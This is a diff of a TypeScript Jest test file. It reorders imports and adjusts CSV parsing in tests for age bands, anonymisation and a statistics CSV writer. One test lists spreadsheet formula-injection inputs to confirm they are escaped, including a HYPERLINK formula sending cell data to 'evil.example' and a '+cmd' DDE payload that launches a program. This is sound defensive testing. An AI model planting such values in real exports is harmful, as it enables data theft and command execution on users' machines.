@@ -1,12 +1,12 @@
 import { describe, expect, it } from '@jest/globals'
 
-import { leadChangeError, type LeadChange } from '../../src/domain/leads/leadStatus'
-import { contactAccessEntries, type ReturnedLead } from '../../src/plugins/boussole/accessLog/contactAccessEntries'
-import { toCsv as writeCsv } from '../../src/domain/shared/csv'
 import { ageBandOf } from '../../src/domain/leads/ageBand'
 import { anonymizedData } from '../../src/domain/leads/anonymizedData'
+import { leadChangeError, type LeadChange } from '../../src/domain/leads/leadStatus'
+import { parseCsv, toCsv as writeCsv } from '../../src/domain/shared/csv'
+import { statTableToCsv as toCsv } from '../../src/domain/statistics/table'
+import { contactAccessEntries, type ReturnedLead } from '../../src/plugins/boussole/accessLog/contactAccessEntries'
 import { accessLogSentence, erasureNotice } from '../../src/plugins/boussole/retention/privacyNotice'
-import { parseCsv, toCsv } from '../../src/domain/statistics/table'
 
 describe('ageBandOf: the only trace of the age kept after erasure', () => {
   const CASES: [unknown, string | null][] = [
@@ -100,12 +100,12 @@ describe('statistics CSV: the platform’s one CSV writer, formula guard include
   const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(A1:A9)', '\t=1+1']
   it.each(HOSTILE)('an organisation named %j comes out as text', (name) => {
     const csv = toCsv({ id: 't', title: 'T', columns: ['Organisme', 'Demandes'], rows: [[name, 3]] })
-    const [, row] = parseCsv(csv)
+    const [row] = parseCsv(csv).records.map((record) => record.cells)
     expect(row).toEqual([`'${name}`, '3'])
     expect(csv).toBe(writeCsv(['Organisme', 'Demandes'], [[name, 3]]))
   })
   it('numbers stay numbers, negative ones included', () => {
-    expect(parseCsv(toCsv({ id: 't', title: 'T', columns: ['Écart'], rows: [[-2], [0.5]] }))).toEqual([['Écart'], ['-2'], ['0.5']])
+    expect(parseCsv(toCsv({ id: 't', title: 'T', columns: ['Écart'], rows: [[-2], [0.5]] })).records.map((record) => record.cells)).toEqual([['-2'], ['0.5']])
   })
 })
 
